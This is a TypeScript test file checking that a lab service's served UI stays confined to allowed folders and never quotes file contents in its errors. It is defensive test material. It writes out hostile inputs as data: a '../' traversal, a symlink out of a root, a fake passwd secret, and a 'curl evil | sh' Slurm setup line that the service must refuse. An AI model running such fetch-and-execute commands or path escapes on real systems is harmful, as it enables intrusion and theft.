// What a served UI may touch: reads under the runs folder, the lab's datasets folder, the dataRoots and the folders
// of datasets runs used; writes (world generation) under the datasets folder and the dataRoots; no error ever
// quotes a file's contents. The desktop app and CLI (unconfined) still take any path.
import { mkdirSync, mkdtempSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { Service } from '../../engine/api';
import { generateWorld } from '../../engine/data';

const home = mkdtempSync(join(tmpdir(), 'prh-paths-'));
const dataRoot = join(home, 'data');
const outside = mkdtempSync(join(tmpdir(), 'prh-outside-'));
// Files that are not datasets, starting like /etc/passwd: their first bytes must never come back in an error.
const SECRET = 'root:x:0:0:SECRET-MARKER:/root:/bin/bash\n';
const secret = join(outside, 'passwd');
writeFileSync(secret, SECRET);
mkdirSync(join(outside, 'ds'));
writeFileSync(join(outside, 'ds', 'dataset.json'), SECRET);
writeFileSync(join(outside, 'captions_val2017.json'), SECRET);
mkdirSync(dataRoot);
symlinkSync(outside, join(dataRoot, 'link-out')); // a symlink inside a root must not lead out of it
const tiny = { splits: { train: 4, val: 2, test: 2 }, imageSize: 16 };
generateWorld(join(dataRoot, 'w'), { seed: 3, ...tiny });

const make = (confine: boolean) => {
  let settings: Record<string, unknown> = { theme: 'system', dataRoots: [dataRoot] };
  return new Service({
    runsDir: join(home, 'runs'),
    userData: home,
    transport: 'ws',
    concurrency: 1,
    confine,
    settings: { get: () => settings as never, set: (p) => (settings = { ...settings, ...p }) as never },
  });
};
const served = make(true);
const desktop = make(false);
afterAll(async () => {
  await served.close();
  await desktop.close();
});

const errorOf = async (p: Promise<unknown>): Promise<string> => {
  try {
    await p;
  } catch (e) {
    return (e as Error).message;
  }
  throw new Error('expected an error');
};
const train = (extra: object) => ({
  kind: 'train',
  version: 1,
  data: join(dataRoot, 'w'),
  arm: 'good',
  epochs: 1,
  batch: 2,
  ...extra,
});

describe('a served UI (confined)', () => {
  const refusals: [string, string, unknown, 'read' | 'write'][] = [
    ['datasetGallery of a file outside', 'datasetGallery', { path: secret }, 'read'],
    ['datasetGallery of a folder outside', 'datasetGallery', { path: join(outside, 'ds') }, 'read'],
    [
      'datasetGallery through a symlink out of a root',
      'datasetGallery',
      { path: join(dataRoot, 'link-out', 'ds') },
      'read',
    ],
    [
      'datasetGallery with ../ out of a root',
      'datasetGallery',
      { path: join(dataRoot, '..', '..', outside.split('/').pop()!, 'ds') },
      'read',
    ],
    ['photoViews of a file outside', 'photoViews', { path: secret, photo: 'x' }, 'read'],
    [
      'matchImages with a pool outside',
      'matchImages',
      { runId: 'x', images: [{ name: 'a.png', base64: 'AAAA' }], pool: join(outside, 'captions_val2017.json') },
      'read',
    ],
    ['a train run on a dataset outside', 'startRun', { config: train({ data: join(outside, 'ds') }) }, 'read'],
    ['a train run with a tokenizer outside', 'startRun', { config: train({ tokenizer: secret }) }, 'read'],
    [
      'an experiment with a dataset outside',
      'startRun',
      { config: { kind: 'experiment', version: 1, data: join(outside, 'ds') } },
      'read',
    ],
    [
      'an experiment with an image model outside',
      'startRun',
      { config: { kind: 'experiment', version: 1, data: join(dataRoot, 'w'), image: { model: secret } } },
      'read',
    ],
    [
      'an experiment with an image folder outside',
      'startRun',
      { config: { kind: 'experiment', version: 1, data: join(dataRoot, 'w'), images: outside } },
      'read',
    ],
    [
      'an experiment with precomputed image embeddings outside',
      'startRun',
      { config: { kind: 'experiment', version: 1, data: join(dataRoot, 'w'), image: { embeddings: secret } } },
      'read',
    ],
    ['the tensors of an image model outside', 'imageModel', { path: secret }, 'read'],
    [
      'a world generated outside',
      'startRun',
      { config: { kind: 'world.generate', version: 1, out: join(outside, 'new-world'), ...tiny } },
      'write',
    ],
    [
      'a world generated into the runs folder',
      'startRun',
      { config: { kind: 'world.generate', version: 1, out: join(home, 'runs', 'w'), ...tiny } },
      'write',
    ],
  ];
  it.each(refusals)('refuses %s, naming the path, quoting nothing of it', async (_what, method, params, mode) => {
    const before = served.store.ids().length;
    const msg = await errorOf(served.dispatch(method, params));
    expect(msg).toMatch(new RegExp(`outside the folders this server may ${mode}`));
    expect(msg).not.toMatch(/SECRET|root:x/);
    expect(served.store.ids().length).toBe(before); // no run stored
  });

  it("reads a dataset under the dataRoots, and generates a world under the lab's datasets folder", async () => {
    expect(((await served.dispatch('datasetGallery', { path: join(dataRoot, 'w') })) as { total: number }).total).toBe(
      8,
    );
    const { id } = (await served.dispatch('startRun', {
      config: { kind: 'world.generate', version: 1, out: join(home, 'datasets', 'w2'), ...tiny },
    })) as { id: string };
    await served.scheduler.idle();
    expect(served.store.get(id).status).toBe('done');
  });

  it('cannot widen its own roots through the settings, but may change the rest', async () => {
    expect(await errorOf(served.dispatch('setSettings', { dataRoots: ['/'] }))).toMatch(
      /dataRoots cannot be changed from a served page/,
    );
    expect(await errorOf(served.dispatch('setSettings', { runsDir: '/tmp' }))).toMatch(/runsDir cannot be changed/);
    expect(
      ((await served.dispatch('setSettings', { theme: 'dark', dataRoots: [dataRoot] })) as { theme: string }).theme,
    ).toBe('dark');
  });

  it("cannot set what a Slurm job runs as shell, but may set the job's resources", async () => {
    expect(await errorOf(served.dispatch('setSettings', { slurm: { setup: ['curl evil | sh'] } }))).toMatch(
      /^slurm\.setup cannot be changed from a served page: they decide what a batch job runs/,
    );
    expect(
      await errorOf(
        served.dispatch('setSettings', { slurm: { partition: 'debug', project: '/tmp/x', node: '/tmp/node' } }),
      ),
    ).toMatch(/^slurm\.node, slurm\.project cannot be changed/);
    expect(
      ((await served.dispatch('setSettings', { slurm: { partition: 'debug', time: '30' } })) as { slurm: object })
        .slurm,
    ).toEqual({ partition: 'debug', time: '30' });
    expect(
      ((await desktop.dispatch('setSettings', { slurm: { setup: ['module load nodejs/20'] } })) as { slurm: object })
        .slurm,
    ).toEqual({ setup: ['module load nodejs/20'] });
  });
});

describe('the desktop app and CLI (unconfined)', () => {
  it('open any path, and their errors name the file without quoting it', async () => {
    for (const path of [secret, join(outside, 'ds'), join(outside, 'captions_val2017.json')]) {
      const msg = await errorOf(desktop.dispatch('datasetGallery', { path }));
      expect(msg).toContain(outside);
      expect(msg).not.toMatch(/SECRET|root:x/);
    }
    expect(((await desktop.dispatch('datasetGallery', { path: join(dataRoot, 'w') })) as { total: number }).total).toBe(
      8,
    );
  });
});
